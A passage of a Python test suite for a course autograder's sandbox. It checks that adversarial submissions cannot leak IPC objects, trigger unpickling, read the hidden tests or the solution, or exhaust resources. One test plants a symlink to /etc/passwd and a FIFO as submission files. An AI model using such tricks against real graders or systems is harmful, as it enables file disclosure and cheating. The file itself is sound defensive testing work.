    assert graded["received"] == []


def test_no_ipc_object_or_shared_memory_file_is_left_on_the_host(graded):
    assert graded["ipc"] == [] and graded["files"] == []


def test_ipc_objects_of_one_test_never_reach_another(graded):
    reached = [key for key, (_, _, text, _) in graded["results"].items() if text and IPC_FOUND in text]
    assert reached == []


def test_answers_are_never_unpickled(graded):
    assert not os.path.exists(PWNED)


def test_hidden_tests_and_solution_stay_out_of_sight(graded):
    for way in ("cli", "bundle"):
        for case in ("reads_the_hidden_tests", "reads_the_solution"):
            text = every_output(result_of(graded, case, way))
            assert "plain_forward" not in text and "def test_other_shape" not in text
        found = output(result_of(graded, "reads_the_solution", way), "test_tokenizer_round_trip")
        assert "found the solution in sight: []" in found


def test_hidden_test_failures_show_no_hidden_source_nor_what_the_code_printed(graded):
    result = result_of(graded, "hidden_traceback", "cli")
    hidden = [t for t in result["tests"] if t["name"].startswith("hidden: ")]
    assert hidden and all(t["status"] == "failed" for t in hidden)
    with open(os.path.join(ROOT, "instructor", "hidden_tests.py"), encoding="utf-8") as f:
        lines = {line.strip() for line in f if len(line.strip()) > 25}
    for t in hidden:
        shown = [line for line in lines if line in t["output"]]
        assert shown == [] and HIDDEN_PRINT not in t["output"], (t["name"], shown, t["output"][:1000])


def test_huge_sampled_ids_fail_cleanly_in_bounded_memory(graded):
    proc, _, text, rss = graded["results"][("huge_ids", "cli")]
    result = json.loads(text)
    sampling = [t for t in result["tests"] if "sampl" in t["name"] or "top_" in t["name"]]
    assert sampling and all(t["status"] == "failed" for t in sampling)
    assert not [t["name"] for t in sampling if "died" in t["output"] or "timed out" in t["output"]]
    assert rss < MAX_GRADER_RSS, f"grading huge_ids reached {rss / 2 ** 20:.0f} MiB resident"


def test_print_flood_is_clipped(graded):
    result = result_of(graded, "print_flood", "cli")
    assert max(len(t["output"]) for t in result["tests"]) < 10_000
    assert "characters cut" in output(result, "test_mlp")


def test_hang_with_signals_blocked_costs_its_timeout(graded):
    result = result_of(graded, "blocked_signals_sleep_in_c", "cli")
    assert "timed out" in output(result, "test_tokenizer_round_trip")
    assert result["execution_time"] < 60


@pytest.mark.parametrize("way", ["cli", "bundle"])
def test_symlinked_and_special_files_are_not_read(built, bundle_env, tmp_path, way):
    submission = tmp_path / "submission"
    submission.mkdir()
    os.symlink(os.path.join(ROOT, "gpt.py"), submission / "gpt.py")  # the solution
    os.symlink("/etc/passwd", submission / "dataset.py")
    os.mkfifo(submission / "cfg.py")
    if way == "cli":
        out = tmp_path / "results.json"
        proc = subprocess.run([sys.executable, "-m", "instructor", "grade", str(submission), "--out", str(out)],
                              cwd=ROOT, capture_output=True, text=True, timeout=600)
    else:
        shutil.copytree(built / "autograder", tmp_path / "source")
        out = tmp_path / "results" / "results.json"
        proc = subprocess.run(["bash", str(tmp_path / "source" / "run_autograder")], capture_output=True, text=True,
                              env={**bundle_env, "AUTOGRADER_DIR": str(tmp_path)}, timeout=600)
    assert proc.returncode == 0, proc.stderr
    result = json.loads(out.read_text())
    assert result["score"] == 0
    assert ("ignored, not a regular file (links, devices and pipes are not read): cfg.py, dataset.py, gpt.py"
            in result["output"])


def test_a_killed_grader_still_leaves_a_complete_report(built, bundle_env, tmp_path, untouched):
    """SIGKILL the trusted grader at once (run_autograder's fallback lists every test) and in the middle
    (the report written after collection stays); either way the jail goes with it."""
    for when in ("at once", "after collection"):
        tmp = tmp_path / when.replace(" ", "-")
        shutil.copytree(built / "autograder", tmp / "source")
        (tmp / "submission").mkdir(parents=True)
        for name in ("gpt.py", "dataset.py"):
            shutil.copy(os.path.join(ROOT, name), tmp / "submission" / name)
        proc = subprocess.Popen(["bash", str(tmp / "source" / "run_autograder")],
                                env={**bundle_env, "AUTOGRADER_DIR": str(tmp)}, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True)
        grader = None
        while grader is None and proc.poll() is None:
            grader = next((p for p in os.listdir("/proc") if p.isdigit() and is_grader(p, proc.pid)), None)
            time.sleep(0.01)
        while when == "after collection" and not (tmp / "results" / "results.json").exists() and proc.poll() is None:
            time.sleep(0.01)  # the report that fails every test, written once the tests are collected
        os.kill(int(grader), signal.SIGKILL)
        proc.communicate(timeout=300)
        result = json.loads((tmp / "results" / "results.json").read_text())
        assert_gradescope_format(result)
        assert [t["name"] for t in result["tests"]] == [t["name"] for t in untouched["tests"]]
        assert result["score"] < sum(t["max_score"] for t in result["tests"])
        assert all("not graded" in t["output"] for t in result["tests"] if t["status"] == "failed")
        time.sleep(1)
        assert jail_processes() == []


def is_grader(pid, parent):
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            stat = f.read()
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            cmd = f.read()
    except OSError:
        return False
    return int(stat[stat.rfind(b")") + 2:].split()[1]) == parent and b"instructor.grade" in cmd


def test_bundle_scripts_pass_bash_n_and_shellcheck(built):
    from slurm_cluster import apt_install
    apt_install(["shellcheck"], ["shellcheck"])
    scripts = [str(built / "autograder" / name) for name in ("setup.sh", "run_autograder")]
    for script in scripts:
        syntax = subprocess.run(["bash", "-n", script], capture_output=True, text=True)
        assert syntax.returncode == 0 and not syntax.stderr, f"bash -n {script}:\n{syntax.stderr}"
    lint = subprocess.run([shutil.which("shellcheck"), *scripts], capture_output=True, text=True)
    assert lint.returncode == 0 and not lint.stdout and not lint.stderr, f"shellcheck:\n{lint.stdout}{lint.stderr}"


def test_bundle_scripts_say_in_one_line_what_is_missing(built, tmp_path):
    """A Python that does not run (setup.sh) or is not there (run_autograder): one line naming it, exit 1."""
    missing = str(tmp_path / "no-python")
    setup = subprocess.run(["bash", str(built / "autograder" / "setup.sh")], env={**os.environ, "PYTHON": missing},
                           capture_output=True, text=True, timeout=60)
    assert (setup.returncode, setup.stderr) == (1, f"setup.sh: PYTHON={missing} does not run\n")
    run = subprocess.run(["bash", str(built / "autograder" / "run_autograder")], capture_output=True, text=True,
                         env={**os.environ, "AUTOGRADER_DIR": str(tmp_path), "VENV": str(tmp_path / "venv")},
                         timeout=60)
    assert (run.returncode, run.stderr) == (1, f"run_autograder: no Python at {tmp_path}/venv/bin/python: run "
                                               f"setup.sh first, or name one in PYTHON\n")
